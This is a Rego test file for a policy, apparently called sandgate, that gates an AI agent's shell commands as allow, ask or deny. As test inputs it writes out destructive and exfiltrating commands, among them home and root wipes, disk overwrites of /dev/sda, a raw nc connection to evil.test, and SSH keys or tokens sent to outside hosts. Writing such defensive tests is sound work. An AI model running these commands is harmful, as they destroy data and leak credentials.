# Tests of toolcall_shell.rego: the commands of shell-like tools, with hand-written facts.
package sandgate.toolcall_shell_test

import rego.v1

import data.sandgate.toolcall

session := {
	"id": "s1", "workload": "persistent", "labels": {}, "frozen": false, "age_s": 1,
	"allow": ["example.com"], "workspace": "/workspace", "secrets": [], "stats": {},
}

path(raw, extra) := object.union({
	"raw": raw, "normalized": concat("/", ["/workspace", raw]), "in_workspace": true, "is_root": false,
	"is_home": false, "is_workspace_parent": false, "dynamic": false, "glob": false, "device": false,
	"via_link": "",
}, extra)

outside(raw) := path(raw, {"normalized": raw, "in_workspace": false})

home := object.union(outside("~"), {"is_home": true})

root := object.union(outside("/"), {"is_root": true, "is_workspace_parent": true})

# cmd: a command's facts; argv[0] is the name, the other words operands unless extra says otherwise
cmd(argv, extra) := object.union({
	"argv": argv, "op": "", "effective": argv, "redirects": [], "name": argv[0],
	"operands": array.slice(argv, 1, count(argv)), "flags": [], "options": {}, "dynamic": false,
	"cwd": path(".", {"normalized": "/workspace"}), "paths": [], "writes": [], "deletes": [], "moves": [],
}, extra)

shell(cmds) := {
	"kind": "toolcall", "session": session, "tool": {"name": "shell", "args": {"command": "(facts)"}},
	"step": 1, "history": [], "shell": {"parsed": true, "commands": cmds},
}

decide(cmds) := d if {
	d := toolcall.decision with input as shell(cmds)
}

# -- reads and ordinary work --------------------------------------------------------------------------------

test_allow_read if {
	d := decide([cmd(["ls"], {})])
	d == {"action": "allow", "reasons": ["the tool call only reads"], "codes": ["toolcall.read"]}
}

test_allow_read_subcommand if {
	d := decide([cmd(["git", "log"], {})])
	d.codes == ["toolcall.read"]
}

test_allow_unlisted_command_as_a_write if {
	d := decide([cmd(["make", "build"], {})])
	d.codes == ["toolcall.write"]
}

test_allow_write_inside_workspace if {
	d := decide([cmd(["echo", "x"], {"writes": [path("out", {})]})])
	d.codes == ["toolcall.write"]
}

test_ask_unparsed_line if {
	inp := object.union(shell([cmd(["ls"], {})]), {"shell": {"parsed": false, "commands": [cmd(["ls"], {})]}})
	d := toolcall.decision with input as inp
	d.codes == ["toolcall.unparsed"]
}

test_ask_shell_without_facts if {
	d := toolcall.decision with input as {"kind": "toolcall", "session": session, "tool": {"name": "shell", "args": {}}}
	d.codes == ["toolcall.no_facts"]
}

test_ask_command_missing_dynamic_fact if {
	d := decide([object.remove(cmd(["ls"], {}), ["dynamic"])])
	d.codes == ["toolcall.dynamic"]
}

# -- deletes ------------------------------------------------------------------------------------------------

test_ask_delete_inside if {
	d := decide([cmd(["rm", "-rf", "build"], {"paths": [path("build", {})]})])
	d.codes == ["toolcall.delete"]
	d.reasons == ["deleting needs approval: rm -rf build"]
}

test_deny_delete_home if {
	d := decide([cmd(["rm", "-rf", "~"], {"paths": [home]})])
	d.action == "deny"
	d.codes == ["toolcall.delete_home"]
	d.reasons == ["delete target ~ is a home directory"]
}

test_deny_delete_root if {
	d := decide([cmd(["rm", "-rf", "/"], {"paths": [root]})])
	d.codes == ["toolcall.delete_root"]
}

test_deny_delete_workspace_parent if {
	d := decide([cmd(["rm", "-rf", "/work"], {"paths": [object.union(outside("/work"), {"is_workspace_parent": true})]})])
	d.codes == ["toolcall.delete_workspace_parent"]
}

test_deny_delete_outside if {
	d := decide([cmd(["rm", "/tmp/x"], {"paths": [outside("/tmp/x")]})])
	d.codes == ["toolcall.delete_outside_workspace"]
}

test_ask_delete_outside_in_a_container if {
	d := decide([cmd(["rm", "/tmp/x"], {"paths": [outside("/tmp/x")], "container": {"name": "c", "via": "docker exec"}})])
	d.action == "ask"
	d.codes == ["toolcall.delete"]
}

test_deny_delete_root_on_a_remote_host if {
	d := decide([cmd(["rm", "-rf", "/"], {"paths": [root], "remote": {"host": "h", "via": "ssh"}})])
	d.action == "deny"
	d.codes == ["toolcall.delete_root"]
}

test_ask_delete_outside_on_a_remote_host if {
	d := decide([cmd(["rm", "/srv/x"], {"paths": [outside("/srv/x")], "remote": {"host": "h", "via": "ssh"}})])
	d.action == "ask"
	d.codes == ["toolcall.delete", "toolcall.external_write"]
}

test_ask_moving_the_whole_workspace if {
	d := decide([cmd(["gzip", "-r", "."], {"moves": [path(".", {"normalized": "/workspace"})]})])
	d.codes == ["toolcall.delete"]
}

test_ask_moving_a_glob_over_the_workspace if {
	d := decide([cmd(["xz", "*"], {"moves": [path("*", {"normalized": "/workspace/*", "glob": true})]})])
	d.codes == ["toolcall.delete"]
}

test_ask_moving_a_containers_working_directory if {
	here := path(".", {"normalized": "/srv", "in_workspace": false})
	d := decide([cmd(["gzip", "-r", "."], {"moves": [here], "cwd": here, "container": {"name": "c", "via": "docker exec"}})])
	d.codes == ["toolcall.delete", "toolcall.write_outside_workspace"]
}

test_allow_moving_inside_the_workspace if {
	d := decide([cmd(["gzip", "x"], {"moves": [path("x", {})]})])
	d.action == "allow"
}

test_ask_delete_of_unknown_path if {
	d := decide([cmd(["rm", "$X"], {"paths": [object.union(outside("$X"), {"dynamic": true, "normalized": ""})]})])
	d.codes == ["toolcall.delete"]
}

test_ask_delete_of_path_without_facts if {
	d := decide([cmd(["rm", "x"], {"paths": [{"raw": "x"}]})])
	d.codes == ["toolcall.delete"]
}

test_deny_delete_device if {
	d := decide([cmd(["shred", "/dev/sda"], {"paths": [object.union(outside("/dev/sda"), {"device": true})]})])
	d.codes == ["toolcall.device"]
}

test_deny_delete_found_by_code if {
	d := decide([cmd(["python3", "-c", "x"], {"operands": [], "code": {"language": "python", "parsed": true, "opaque": false}, "deletes": [home]})])
	d.codes == ["toolcall.delete_home"]
}

test_deny_delete_in_nested_command_names_its_origin if {
	d := decide([cmd(["python3"], {}), cmd(["rm", "-rf", "~"], {"paths": [home], "origin": "python3 code"})])
	d.reasons == ["delete target ~ is a home directory"]
}

test_ask_nested_delete_names_its_origin if {
	d := decide([cmd(["python3"], {}), cmd(["rm", "x"], {"paths": [path("x", {})], "origin": "python3 code"})])
	d.reasons == ["deleting needs approval: rm x (run by python3 code)"]
}

test_deny_find_delete_home if {
	d := decide([cmd(["find", "~", "-delete"], {"flags": ["-delete"], "paths": [home]})])
	d.codes == ["toolcall.delete_home"]
}

test_ask_pg_restore_clean_like_dropdb if {
	d := decide([cmd(["pg_restore", "-c", "-d", "app", "dump.tar"], {"flags": ["-c", "-d"], "operands": ["dump.tar"], "paths": [path("dump.tar", {})]})])
	d.codes == ["toolcall.delete"]
	d.reasons == ["deleting needs approval: pg_restore -c -d app dump.tar"]
	dropdb := decide([cmd(["dropdb", "prod"], {})])
	dropdb.codes == ["toolcall.delete"]
}

test_ask_pg_restore_long_clean if {
	d := decide([cmd(["pg_restore", "--clean", "--dbname=app", "dump"], {"flags": ["--clean", "--dbname"], "operands": ["dump"]})])
	d.codes == ["toolcall.delete"]
}

test_allow_pg_restore_without_clean_as_a_write if {
	d := decide([cmd(["pg_restore", "-d", "app", "dump.tar"], {"flags": ["-d"], "operands": ["dump.tar"]})])
	d.codes == ["toolcall.write"]
}

test_delete_command_flags_from_data if {
	d := toolcall.decision with input as shell([cmd(["mytool", "--purge"], {"flags": ["--purge"]})])
		with data.sandgate.config.toolcall.delete_command_flags as {"mytool": ["--purge"]}
	d.codes == ["toolcall.delete"]
}

test_ask_find_without_delete_is_a_read if {
	d := decide([cmd(["find", "."], {"paths": [path(".", {})]})])
	d.codes == ["toolcall.read"]
}

test_deny_git_clean_in_root if {
	d := decide([cmd(["git", "clean", "-fdx"], {"operands": ["clean"], "cwd": root})])
	d.codes == ["toolcall.delete_root"]
}

test_ask_git_clean_in_workspace if {
	d := decide([cmd(["git", "clean", "-fdx"], {"operands": ["clean"]})])
	d.codes == ["toolcall.delete"]
}

test_delete_prefixes_are_configurable if {
	inp := shell([cmd(["wipe-all"], {})])
	d := toolcall.decision with input as inp with data.sandgate.config.toolcall.delete_command_prefixes as ["wipe-"]
	d.codes == ["toolcall.delete"]
}

# -- moves, devices, filesystems, system ---------------------------------------------------------------------

test_deny_moving_home_away if {
	d := decide([cmd(["mv", "~", "/tmp/x"], {"moves": [home], "writes": [outside("/tmp/x")]})])
	d.codes == ["toolcall.delete_home"]
	d.reasons == ["moving ~ away: it is a home directory"]
}

test_ask_moving_from_outside if {
	d := decide([cmd(["mv", "/tmp/a", "b"], {"moves": [outside("/tmp/a")], "writes": [path("b", {})]})])
	d.codes == ["toolcall.write_outside_workspace"]
}

test_allow_moving_inside if {
	d := decide([cmd(["mv", "a", "b"], {"moves": [path("a", {})], "writes": [path("b", {})]})])
	d.codes == ["toolcall.write"]
}

test_deny_write_to_device if {
	d := decide([cmd(["dd", "of=/dev/sda"], {"writes": [object.union(outside("/dev/sda"), {"device": true})]})])
	d.action == "deny"
	d.codes == ["toolcall.device"]
}

test_deny_filesystem_tool_on_device if {
	d := decide([cmd(["mkfs.ext4", "/dev/sdb1"], {"paths": [object.union(outside("/dev/sdb1"), {"device": true})]})])
	d.action == "deny"
	d.codes == ["toolcall.device"]
}

test_ask_filesystem_tool_on_image if {
	d := decide([cmd(["mkfs.ext4", "disk.img"], {"paths": [path("disk.img", {})]})])
	d.codes == ["toolcall.filesystem"]
}

test_ask_write_outside if {
	d := decide([cmd(["tee", "/etc/hosts"], {"writes": [outside("/etc/hosts")]})])
	d.codes == ["toolcall.write_outside_workspace"]
	d.reasons == ["writing /etc/hosts outside the workspace needs approval"]
}

test_ask_system_command if {
	d := decide([cmd(["systemctl", "stop", "x"], {})])
	d.codes == ["toolcall.system"]
}

test_allow_system_read_subcommand if {
	d := decide([cmd(["systemctl", "status", "x"], {})])
	d.codes == ["toolcall.write"]
}

# -- computed and fetched code --------------------------------------------------------------------------------

test_ask_dynamic if {
	d := decide([cmd(["$EDITOR", "x"], {"dynamic": true})])
	d.codes == ["toolcall.dynamic"]
	d.reasons == ["what runs is only known at run time: $EDITOR x"]
}

test_ask_opaque_code if {
	d := decide([cmd(["python3"], {"code": {"language": "python", "parsed": true, "opaque": true}})])
	d.codes == ["toolcall.opaque_code"]
}

test_ask_unparsed_code if {
	d := decide([cmd(["python3"], {"code": {"language": "python", "parsed": false, "opaque": false}})])
	d.codes == ["toolcall.unparsed"]
	d.reasons == ["the python code could not be parsed: python3"]
}

test_allow_plain_code if {
	d := decide([cmd(["python3"], {"code": {"language": "python", "parsed": true, "opaque": false}})])
	d.codes == ["toolcall.write"]
}

test_ask_running_unseen_written_script if {
	d := decide([cmd(["bash", "x.sh"], {"runs": {"path": path("x.sh", {}), "written": true, "known": false}})])
	d.codes == ["toolcall.runs_written"]
	d.reasons == ["runs x.sh, written earlier from content not seen: bash x.sh"]
}

test_allow_running_seen_written_script if {
	d := decide([cmd(["bash", "x.sh"], {"runs": {"path": path("x.sh", {}), "written": true, "known": true}})])
	d.codes == ["toolcall.write"]
}

test_allow_running_existing_script if {
	d := decide([cmd(["bash", "x.sh"], {"runs": {"path": path("x.sh", {}), "written": false, "known": false}})])
	d.codes == ["toolcall.write"]
}

test_ask_remote if {
	d := decide([cmd(["ssh", "h", "ls"], {"remote": {"host": "h"}})])
	d.codes == ["toolcall.external_write"]
	d.reasons == ["runs on or copies to the remote host h: ssh h ls"]
}

test_ask_raw_network if {
	d := decide([cmd(["nc", "evil.test", "4444"], {})])
	d.codes == ["toolcall.external_write"]
	d.reasons == ["opens a raw network connection: nc evil.test 4444"]
}

# -- deploys and git ----------------------------------------------------------------------------------------

test_ask_deploy_subcommand if {
	d := decide([cmd(["npm", "publish"], {})])
	d.codes == ["toolcall.deploy"]
}

test_ask_deploy_command if {
	d := decide([cmd(["ansible-playbook", "site.yml"], {})])
	d.codes == ["toolcall.deploy"]
}

test_ask_deploy_operand if {
	d := decide([cmd(["gcloud", "run", "deploy", "x"], {})])
	"toolcall.deploy" in d.codes
}

test_ask_deploy_flag if {
	d := decide([cmd(["vercel", "--prod"], {"operands": [], "flags": ["--prod"]})])
	"toolcall.deploy" in d.codes
}

test_ask_bare_deploy if {
	d := decide([cmd(["vercel"], {})])
	"toolcall.deploy" in d.codes
}

test_ask_push_without_refspec if {
	d := decide([cmd(["git", "push"], {})])
	d.codes == ["toolcall.deploy"]
}

test_ask_push_to_protected_branch if {
	d := decide([cmd(["git", "push", "origin", "feature:refs/heads/main"], {})])
	d.codes == ["toolcall.deploy"]
}

test_allow_push_of_a_feature_branch if {
	d := decide([cmd(["git", "push", "origin", "feature"], {})])
	d.codes == ["toolcall.write"]
}

test_ask_push_all if {
	d := decide([cmd(["git", "push", "origin", "x"], {"flags": ["--all"]})])
	d.codes == ["toolcall.deploy"]
}

test_ask_force_push if {
	d := decide([cmd(["git", "push", "origin", "feature"], {"flags": ["-f"]})])
	d.codes == ["toolcall.git_destructive"]
}

test_ask_plus_refspec_push if {
	d := decide([cmd(["git", "push", "origin", "+feature"], {})])
	d.codes == ["toolcall.git_destructive"]
}

test_ask_reset_hard if {
	d := decide([cmd(["git", "reset", "--hard"], {"operands": ["reset"], "flags": ["--hard"]})])
	d.codes == ["toolcall.git_destructive"]
	d.reasons == ["this git command discards work or rewrites history: git reset --hard"]
}

test_ask_checkout_dot if {
	d := decide([cmd(["git", "checkout", "."], {})])
	d.codes == ["toolcall.git_destructive"]
}

test_ask_checkout_separator if {
	d := decide([cmd(["git", "checkout", "--", "a"], {"operands": ["checkout", "a"]})])
	d.codes == ["toolcall.git_destructive"]
}

test_allow_checkout_branch if {
	d := decide([cmd(["git", "checkout", "feature"], {})])
	d.codes == ["toolcall.write"]
}

test_ask_restore if {
	d := decide([cmd(["git", "restore", "a"], {})])
	d.codes == ["toolcall.git_destructive"]
}

test_allow_restore_staged if {
	d := decide([cmd(["git", "restore", "a"], {"flags": ["--staged"]})])
	d.codes == ["toolcall.write"]
}

test_ask_restore_staged_and_worktree if {
	d := decide([cmd(["git", "restore", "a"], {"flags": ["--staged", "--worktree"]})])
	d.codes == ["toolcall.git_destructive"]
}

test_ask_stash_drop if {
	d := decide([cmd(["git", "stash", "drop"], {})])
	d.codes == ["toolcall.git_destructive"]
}

test_ask_branch_force_delete if {
	d := decide([cmd(["git", "branch", "x"], {"flags": ["-D"]})])
	d.codes == ["toolcall.git_destructive"]
}

test_ask_filter_branch if {
	d := decide([cmd(["git", "filter-branch"], {})])
	d.codes == ["toolcall.git_destructive"]
}

# -- cloud, cluster and forge CLIs --------------------------------------------------------------------------

test_allow_cli_read_verb if {
	d := decide([cmd(["aws", "ec2", "describe-instances"], {})])
	d.codes == ["toolcall.read"]
}

test_ask_cli_destructive_verb if {
	d := decide([cmd(["aws", "s3", "rm", "s3://b/k"], {})])
	d.codes == ["toolcall.cli_destructive"]
	d.reasons == ["a destructive aws command needs approval: aws s3 rm s3://b/k"]
}

test_ask_cli_destructive_flag if {
	d := decide([cmd(["aws", "s3", "sync", ".", "s3://b"], {"flags": ["--delete"]})])
	"toolcall.cli_destructive" in d.codes
}

test_ask_cli_write_verb if {
	d := decide([cmd(["aws", "s3", "cp", "a", "s3://b"], {})])
	d.codes == ["toolcall.cli_verb"]
}

test_ask_cli_unknown_verb if {
	d := decide([cmd(["kubectl", "frobnicate"], {})])
	d.codes == ["toolcall.cli_verb"]
}

test_ask_cli_without_verb if {
	d := decide([cmd(["gh"], {})])
	d.codes == ["toolcall.cli_verb"]
}

test_allow_cli_local_verb if {
	d := decide([cmd(["docker", "build", "."], {})])
	d.codes == ["toolcall.write"]
}

test_cli_last_verb_word_wins if {
	d := decide([cmd(["gcloud", "compute", "instances", "list"], {})])
	d.codes == ["toolcall.read"]
}

test_cli_write_after_read_word_asks if {
	d := decide([cmd(["gcloud", "list", "compute", "create"], {})])
	d.codes == ["toolcall.cli_verb"]
}

test_cli_glob_verbs if {
	d := decide([cmd(["heroku", "apps:destroy"], {})])
	d.codes == ["toolcall.cli_destructive"]
}

test_cli_verbs_beyond_depth_are_operands if {
	d := decide([cmd(["kubectl", "get", "pod", "delete"], {})])
	d.codes == ["toolcall.read"]
}

test_ask_cli_api_delete if {
	d := decide([cmd(["gh", "api", "repos/o/r"], {"http": {"method": "DELETE", "urls": [{"parsed": true, "host": "api.github.com", "port": 443}]}})])
	d.codes == ["toolcall.cli_destructive", "toolcall.delete", "toolcall.external_write"]
}

test_ask_cli_api_post if {
	d := decide([cmd(["gh", "api", "repos/o/r/issues"], {"http": {"method": "POST", "urls": [{"parsed": true, "host": "api.github.com", "port": 443}]}})])
	d.codes == ["toolcall.external_write"]
}

test_allow_cli_api_get if {
	d := decide([cmd(["gh", "api", "repos/o/r"], {"http": {"method": "GET", "urls": [{"parsed": true, "host": "api.github.com", "port": 443}]}})])
	d.codes == ["toolcall.read"]
}

test_allow_cli_download if {
	d := decide([cmd(["aws", "s3", "cp", "s3://b/k", "./k"], {})])
	d.codes == ["toolcall.write"]
}

test_ask_cli_upload if {
	d := decide([cmd(["aws", "s3", "cp", "./k", "s3://b/k"], {})])
	d.codes == ["toolcall.cli_verb"]
}

test_cli_table_is_data if {
	inp := shell([cmd(["mycloud", "nuke"], {})])
	d := toolcall.decision with input as inp with data.sandgate.config.toolcall.cli as {"mycloud": {"destructive": ["nuke"]}}
	d.codes == ["toolcall.cli_destructive"]
}

# -- HTTP from shell commands -------------------------------------------------------------------------------

http(method, host) := {"method": method, "urls": [{"parsed": true, "scheme": "https", "host": host, "port": 443, "path": "/", "query": {}}]}

test_ask_curl_post_elsewhere if {
	d := decide([cmd(["curl"], {"http": http("POST", "evil.test")})])
	d.codes == ["toolcall.external_write"]
}

test_allow_curl_post_allowlisted if {
	d := decide([cmd(["curl"], {"http": http("POST", "example.com")})])
	d.codes == ["toolcall.write"]
}

test_ask_http_write_without_urls if {
	d := decide([cmd(["curl"], {"http": {"method": "PUT", "urls": []}})])
	d.codes == ["toolcall.external_write"]
}

test_ask_http_delete_even_to_an_allowed_host if {
	d := decide([cmd(["curl"], {"http": http("DELETE", "example.com")})])
	d.codes == ["toolcall.delete"]
	d.reasons == ["an HTTP DELETE needs approval: curl"]
}

test_allow_curl_get if {
	d := decide([cmd(["curl"], {"http": http("GET", "evil.test")})])
	d.codes == ["toolcall.write"]
}

# -- SQL in shell commands ----------------------------------------------------------------------------------

sql(s) := object.union({"parsed": true, "kinds": [], "unbounded": [], "visible": true}, s)

test_ask_psql_drop if {
	d := decide([cmd(["psql"], {"sql": sql({"kinds": ["DROP"]})})])
	d.codes == ["toolcall.delete"]
}

test_allow_psql_select_is_a_read if {
	d := decide([cmd(["psql"], {"sql": sql({"kinds": ["SELECT"]})})])
	d.codes == ["toolcall.read"]
}

test_ask_psql_invisible if {
	d := decide([cmd(["psql"], {"sql": sql({"visible": false})})])
	d.codes == ["toolcall.sql_invisible"]
}

test_ask_redis_flushall if {
	d := decide([cmd(["redis-cli", "FLUSHALL"], {"sql": sql({"kinds": ["FLUSHALL"]})})])
	d.codes == ["toolcall.delete"]
}

# -- frozen sessions: reads that run programs ---------------------------------------------------------------

frozen(cmds) := d if {
	d := toolcall.decision with input as object.union(shell(cmds), {"session": object.union(session, {"frozen": true})})
}

test_allow_frozen_plain_read if {
	d := frozen([cmd(["git", "log"], {})])
	d.codes == ["toolcall.read"]
}

test_ask_frozen_read_that_runs_a_program if {
	d := frozen([cmd(["git", "log"], {"executes": [{"via": "git config core.pager", "known": true}]})])
	d.codes == ["toolcall.frozen"]
	d.reasons == ["the session is frozen: git log needs approval"]
}

test_ask_frozen_read_with_a_write if {
	d := frozen([cmd(["cat", "a"], {"writes": [path("b", {})]})])
	d.codes == ["toolcall.frozen"]
}

test_ask_frozen_cli_local_verb if {
	d := frozen([cmd(["docker", "build", "."], {})])
	d.codes == ["toolcall.frozen"]
}

test_allow_frozen_cli_read if {
	d := frozen([cmd(["kubectl", "get", "pods"], {})])
	d.codes == ["toolcall.read"]
}

test_ask_frozen_http_write_of_a_read_command if {
	d := frozen([cmd(["gh", "api", "x"], {"http": http("POST", "api.github.com")})])
	d.codes == ["toolcall.external_write", "toolcall.frozen"]
}

test_ask_frozen_lists_only_the_mutating_commands if {
	d := frozen([cmd(["ls"], {}), cmd(["make"], {})])
	d.reasons == ["the session is frozen: make needs approval"]
}

# -- SQL that runs a program on the database host (the sql tool's COPY ... PROGRAM) ------------------------

sql_program(cmds, parsed) := {
	"kind": "toolcall", "session": session, "tool": {"name": "sql", "args": {"query": "COPY t TO PROGRAM '...'"}},
	"step": 1, "history": [], "sql": {"parsed": true, "kinds": ["COPY"], "unbounded": [], "visible": true},
	"shell": {"parsed": parsed, "commands": cmds, "from": "sql"},
}

test_sql_copy_program_home_wipe_deny if {
	d := toolcall.decision with input as sql_program([cmd(["rm", "-rf", "~"], {"flags": ["-rf", "-r", "-f"], "paths": [home], "deletes": [home]})], true)
	d.action == "deny"
	"toolcall.delete_home" in d.codes
}

test_sql_copy_program_not_visible_ask if {
	d := toolcall.decision with input as sql_program([], false)
	d.action == "ask"
	"toolcall.unparsed" in d.codes
}

# -- secrets flowing to the network ----------------------------------------------------------------------------

key_source := {"kind": "file", "name": "~/.ssh/id_rsa", "via": "argument"}

test_ask_source_reaching_a_sink if {
	d := decide([cmd(["curl"], {"sources": [key_source], "sinks": [{"kind": "header", "host": "example.com", "port": 443}]})])
	"toolcall.exfiltration" in d.codes
	d.action == "ask"
}

test_ask_source_reaching_dns if {
	d := decide([cmd(["dig"], {"sources": [key_source], "sinks": [{"kind": "dns", "host": "", "port": 53}]})])
	d.codes == ["toolcall.exfiltration"]
}

test_allow_source_without_sink if {
	d := decide([cmd(["cat"], {"sources": [key_source]})])
	d.action == "allow"
}

test_allow_secret_variable_to_allowed_host if {
	env := {"kind": "env", "name": "GITHUB_TOKEN", "via": "argument"}
	d := decide([cmd(["curl"], {"sources": [env], "sinks": [{"kind": "header", "host": "example.com", "port": 443}]})])
	d.action == "allow"
}

test_ask_secret_variable_to_other_host if {
	env := {"kind": "env", "name": "GITHUB_TOKEN", "via": "argument"}
	d := decide([cmd(["curl"], {"sources": [env], "sinks": [{"kind": "url", "host": "evil.test", "port": 443}]})])
	d.codes == ["toolcall.exfiltration"]
}

test_ask_secret_variable_to_unknown_host if {
	env := {"kind": "env", "name": "GITHUB_TOKEN", "via": "argument"}
	d := decide([cmd(["nslookup"], {"sources": [env], "sinks": [{"kind": "dns", "host": "", "port": 53}]})])
	d.codes == ["toolcall.exfiltration"]
}

# -- files run implicitly ---------------------------------------------------------------------------------------

test_ask_implicit_run_of_unseen_file if {
	r := {"path": path("conftest.py", {"normalized": "/workspace/conftest.py"}), "via": "pytest conftest.py", "known": false}
	d := decide([cmd(["pytest"], {"implicit_runs": [r]})])
	d.codes == ["toolcall.implicit_run"]
}

test_allow_implicit_run_of_seen_file if {
	r := {"path": path("conftest.py", {"normalized": "/workspace/conftest.py"}), "via": "pytest conftest.py", "known": true}
	d := decide([cmd(["pytest"], {"implicit_runs": [r]})])
	d.action == "allow"
}

test_allow_secret_variable_as_a_cli_credential if {
	env := {"kind": "env", "name": "KUBE_TOKEN", "via": "argument"}
	d := decide([cmd(["kubectl"], {"sources": [env], "sinks": [{"kind": "cli", "host": "", "port": 0}]})])
	not "toolcall.exfiltration" in d.codes
}

test_ask_key_file_to_a_cli if {
	d := decide([cmd(["gh"], {"sources": [key_source], "sinks": [{"kind": "cli", "host": "", "port": 0}]})])
	"toolcall.exfiltration" in d.codes
}

test_allow_source_to_loopback if {
	d := decide([cmd(["curl"], {"sources": [key_source], "sinks": [{"kind": "data", "host": "localhost", "port": 8080, "local": true}]})])
	d.action == "allow"
}
